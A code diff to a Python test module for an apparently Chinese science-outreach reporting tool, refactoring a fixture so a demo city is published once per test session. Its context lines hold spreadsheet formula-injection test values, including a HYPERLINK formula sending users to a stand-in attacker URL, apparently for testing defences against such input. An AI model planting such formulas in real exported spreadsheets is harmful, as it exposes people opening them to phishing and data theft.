@@ -18,7 +18,7 @@ from kepu.demo.forms import fill_form
 from kepu.form.template import DETAIL_SHEET, FIRST_DATA_ROW
 from kepu.demo.city import build_demo_city, plan_demo_city
 from kepu.settings import Settings, load_settings
-from tests.builders import set_received
+from tests.builders import built_once, set_received
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/steal","点我查看")'
 FORMULA_NAMES = (HYPERLINK, "+1 科普讲座进社区", "-2 科普展览", "@SUM(A1:A9) 健康义诊")
@@ -89,15 +89,18 @@ _built: dict[str, PublishedCity] = {}
 
 
 def published_city(tmp_path_factory) -> PublishedCity:
-    """The demo city with the planted form, published by the nightly flow (needs the Prefect harness)."""
+    """The demo city with the planted form, published by the nightly flow (needs the Prefect harness); built
+    once for all the session's workers."""
     if "city" not in _built:
-        from kepu.flows.nightly import run
-
-        root = tmp_path_factory.mktemp("deliverables_city")
-        city = build_demo_city(root)
-        unit = silent_unit(root)
-        plant_form(city.root / "inbox", *unit)
-        summary = run(city.config_path)
-        _built["city"] = PublishedCity(root, load_settings(city.config_path), [Path(p) for p in summary.outputs],
-                                       unit)
+        _built["city"] = built_once(tmp_path_factory, "deliverables-city", _publish_city)
     return _built["city"]
+
+
+def _publish_city(root: Path) -> PublishedCity:
+    from kepu.flows.nightly import run
+
+    city = build_demo_city(root)
+    unit = silent_unit(root)
+    plant_form(city.root / "inbox", *unit)
+    summary = run(city.config_path)
+    return PublishedCity(root, load_settings(city.config_path), [Path(p) for p in summary.outputs], unit)
